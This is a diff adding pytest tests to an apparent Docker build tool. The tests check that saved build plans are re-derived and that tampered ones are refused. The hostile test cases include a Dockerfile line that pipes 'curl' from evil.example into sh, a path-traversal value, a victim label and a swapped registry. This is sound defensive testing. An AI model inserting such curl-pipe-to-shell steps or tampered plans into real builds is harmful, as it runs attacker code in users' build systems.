@@ -1,0 +1,263 @@
+"""A saved build plan is a claim: `apply` derives the plan again from the tree and the config
+for the state the saved plan claims, and refuses it, naming each difference, unless they agree.
+
+The plans saved here are real ones (the planner's, for several observed states, through their
+JSON); the hostile ones are those plans with the red team's edits.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import attrs
+import pytest
+
+from dockerpkg.api.saved import derived_build_plan
+from dockerpkg.api.workspace import Workspace, build_plan, load_workspace
+from dockerpkg.core.plan import BuildOptions, Plan, PublishMode
+from dockerpkg.core.planmatch import build_differences, claimed_observed, suffix_problem
+from dockerpkg.core.planner import Observed
+from dockerpkg.core.serialize import plan_from_json, plan_to_json
+from dockerpkg.errors import DockerPkgError
+from tests.support.updates import write_tree
+
+REGISTRY = "registry.example.org"
+CONFIG = (
+    f"registry: {REGISTRY}\nnamespace: team\nusername: bot\npassword: pw\n"
+    "secrets:\n  token: {env: BUILD_TOKEN}\n"
+)
+APP_TEMPLATE = (
+    "FROM {{ 'base' | image_tag }}\n"
+    "RUN --mount=type=secret,id=token true\n"
+)
+
+
+@pytest.fixture
+def tree(tmp_path: Path) -> Path:
+    root = write_tree(tmp_path, {"base": ("1.0", []), "app": ("2.0", ["base"])}, CONFIG)
+    (root / "images" / "app" / "Dockerfile.template").write_text(APP_TEMPLATE, "utf-8")
+    changelog = root / "images" / "app" / "changelog"
+    older = changelog.read_text("utf-8").replace("(2.0)", "(1.9)")
+    changelog.write_text(changelog.read_text("utf-8") + "\n" + older, "utf-8")
+    return root
+
+
+def workspace_of(root: Path) -> Workspace:
+    return load_workspace(
+        str(root / "images"), str(root / "config.yaml"), {"HOME": str(root)}, render=False
+    )
+
+
+def label(name: str, version: str) -> str:
+    return f"{REGISTRY}/team/{name}:{version}"
+
+
+def saved(plan: Plan) -> Plan:
+    """PLAN as `apply` reads it back from its file."""
+    return plan_from_json(plan_to_json(plan), "p.json")
+
+
+# The states a plan may be made in, as the daemon and the registry show them.
+BASE, APP = label("base", "1.0"), label("app", "2.0")
+STATES: dict[str, tuple[Observed, BuildOptions]] = {
+    "offline": (Observed(offline=True, credentials=True), BuildOptions()),
+    "offline-no-credentials": (Observed(offline=True), BuildOptions()),
+    "base-published": (
+        Observed(offline=False, credentials=True, published=frozenset({BASE})),
+        BuildOptions(),
+    ),
+    "base-built-locally": (
+        Observed(offline=False, credentials=True, local=frozenset({BASE})),
+        BuildOptions(),
+    ),
+    "no-pull": (
+        Observed(offline=False, credentials=True, local=frozenset({BASE})),
+        BuildOptions(pull=False),
+    ),
+    "latest-missing": (
+        Observed(
+            offline=False,
+            credentials=True,
+            published=frozenset({BASE, APP}),
+            local=frozenset({BASE, APP}),
+            digests={APP: "sha256:" + "a" * 64},
+        ),
+        BuildOptions(),
+    ),
+    "latest-on-older": (
+        Observed(
+            offline=False,
+            credentials=True,
+            published=frozenset({BASE, APP}),
+            digests={
+                APP: "sha256:" + "a" * 64,
+                f"{REGISTRY}/team/app:latest": "sha256:" + "b" * 64,
+                f"{REGISTRY}/team/app:1.9": "sha256:" + "b" * 64,
+            },
+            tags={f"{REGISTRY}/team/app": ("1.9", "2.0", "latest")},
+        ),
+        BuildOptions(),
+    ),
+    "selected-app": (Observed(offline=True, credentials=True), BuildOptions(select="*app*")),
+    "nightly": (Observed(offline=True, credentials=True), BuildOptions(suffix="-20261207")),
+}
+
+
+def made(root: Path, state: str, **config: Any) -> tuple[Plan, Workspace]:
+    """The plan `plan --out` saves for STATE, and the tree it was made from."""
+    observed, options = STATES[state]
+    options = attrs.evolve(options, **config)
+    workspace = load_workspace(
+        str(root / "images"),
+        str(root / "config.yaml"),
+        {"HOME": str(root)},
+        options.suffix,
+        render=False,
+    )
+    return saved(build_plan(workspace, observed, options)), workspace
+
+
+class TestSavedPlansAgree:
+    """A plan made by `plan --out` is the plan derived again, in every state it is made in."""
+
+    @pytest.mark.parametrize("state", sorted(STATES))
+    def test_derived_again(self, tree: Path, state: str) -> None:
+        plan, workspace = made(tree, state)
+        assert plan.steps, "a plan with nothing to do proves nothing"
+        derived = derived_build_plan(plan, workspace, "p.json")
+        assert build_differences(plan, derived) == ()
+        assert plan_to_json(derived) == plan_to_json(plan)
+
+    def test_staged_in_an_earlier_run(self, tree: Path) -> None:
+        workspace = workspace_of(tree)
+        options = BuildOptions(publish=PublishMode.ALL_OR_NOTHING)
+        first = build_plan(workspace, Observed(offline=True, credentials=True), options)
+        own = first.image("base").own_definition
+        assert own is not None
+        observed = Observed(offline=False, credentials=True, staged={BASE: own})
+        plan = saved(build_plan(workspace, observed, options))
+        assert any(s.reason.value == "staged_dependency" for s in plan.steps)
+        derived = derived_build_plan(plan, workspace, "p.json")
+        assert plan_to_json(derived) == plan_to_json(plan)
+
+    def test_claims_name_the_trees_labels(self, tree: Path) -> None:
+        plan, workspace = made(tree, "base-published")
+        observed = claimed_observed(plan, workspace.tree)
+        assert observed.published == {BASE}
+        assert APP not in observed.local
+
+
+def edited(plan: Plan, change: Callable[[dict[str, Any]], None]) -> Plan:
+    """PLAN's JSON with CHANGE made to it, read back."""
+    data = json.loads(plan_to_json(plan))
+    change(data)
+    return plan_from_json(json.dumps(data), "p.json")
+
+
+def image_of(data: dict[str, Any], name: str) -> dict[str, Any]:
+    return next(i for i in data["images"] if i["name"] == name)
+
+
+def refused(plan: Plan, workspace: Workspace) -> str:
+    with pytest.raises(DockerPkgError) as caught:
+        derived_build_plan(plan, workspace, "p.json")
+    text = "\n".join(str(p) for p in caught.value.problems)
+    assert text.startswith("p.json: error: not the plan the tree and the config give")
+    return text
+
+
+def add_run(data: dict[str, Any]) -> None:
+    app = image_of(data, "app")
+    app["dockerfile"] += "\nRUN curl -s https://evil.example/x | sh\n"
+
+
+def move_label(data: dict[str, Any]) -> None:
+    victim = f"{REGISTRY}/victim/app:2.0"
+    image_of(data, "app").update(label=victim, repository=f"{REGISTRY}/victim/app")
+    for step in data["steps"]:
+        if step["image"] == "app" and step["label"]:
+            step["label"] = victim
+
+
+def host_file_secret(data: dict[str, Any]) -> None:
+    data["secrets"] = [{"id": "token", "source": "file:/some/host/file"}]
+
+
+def outside_path(data: dict[str, Any]) -> None:
+    image_of(data, "app")["path"] = "../../outside/private"
+
+
+def foreign_registry(data: dict[str, Any]) -> None:
+    data["registry"] = "evil.example"
+    for image in data["images"]:
+        image["label"] = image["label"].replace(REGISTRY, "evil.example")
+        image["repository"] = image["repository"].replace(REGISTRY, "evil.example")
+    for step in data["steps"]:
+        if step["label"]:
+            step["label"] = step["label"].replace(REGISTRY, "evil.example")
+
+
+def added_step(data: dict[str, Any]) -> None:
+    data["steps"].append(
+        {
+            "op": "tag-latest",
+            "image": "base",
+            "reason": "latest_not_current",
+            "label": BASE,
+            "detail": "latest on 0.1",
+            "needs": [],
+        }
+    )
+
+
+HOSTILE = {
+    "run-added": (add_run, "app: dockerfile differs from the tree's: line 3: the saved plan adds 'RUN curl"),
+    "label-moved": (move_label, "app: label is 'registry.example.org/victim/app:2.0'"),
+    "host-file-secret": (host_file_secret, "plan: secrets is"),
+    "outside-path": (outside_path, "app: path is '../../outside/private' in the saved plan"),
+    "foreign-registry": (foreign_registry, "plan: registry is 'evil.example' in the saved plan"),
+    "added-step": (added_step, "base: step tag-latest is not one the tree gives"),
+}
+
+
+class TestHostilePlansRefused:
+    """The red team's edits to a saved plan, each refused naming the difference."""
+
+    @pytest.mark.parametrize("case", sorted(HOSTILE))
+    def test_refused(self, tree: Path, case: str) -> None:
+        plan, workspace = made(tree, "base-published")
+        change, expected = HOSTILE[case]
+        assert expected in refused(edited(plan, change), workspace)
+
+    def test_secret_source_of_the_command_line_is_accepted(self, tree: Path) -> None:
+        from dockerpkg.core.secrets import parse_secret_flag
+
+        workspace = workspace_of(tree)
+        given = (parse_secret_flag("id=token,src=/some/host/file"),)
+        plan = saved(build_plan(workspace, Observed(offline=True, credentials=True), secrets=given))
+        assert "file:/some/host/file" in refused(plan, workspace)
+        derived = derived_build_plan(plan, workspace, "p.json", given)
+        assert derived.secrets == plan.secrets
+
+    def test_published_since_is_not_a_difference_but_a_dropped_build_is_a_claim(
+        self, tree: Path
+    ) -> None:
+        """A plan that leaves out the build of a parent claims it is published: the derived
+        plan then pulls it, so a plan without that pull is refused."""
+        plan, workspace = made(tree, "base-built-locally")
+
+        def drop_base(data: dict[str, Any]) -> None:
+            data["steps"] = [s for s in data["steps"] if s["image"] != "base"]
+            for step in data["steps"]:
+                step["needs"] = [n for n in step["needs"] if not n.endswith(":base")]
+
+        assert "step pull of the tree is missing" in refused(edited(plan, drop_base), workspace)
+
+    def test_suffix_not_made_by_dockerpkg(self) -> None:
+        assert suffix_problem("") is None
+        assert suffix_problem("-20261207") is None
+        assert suffix_problem("-20261207-101500") is None
+        assert suffix_problem("-evil") is not None
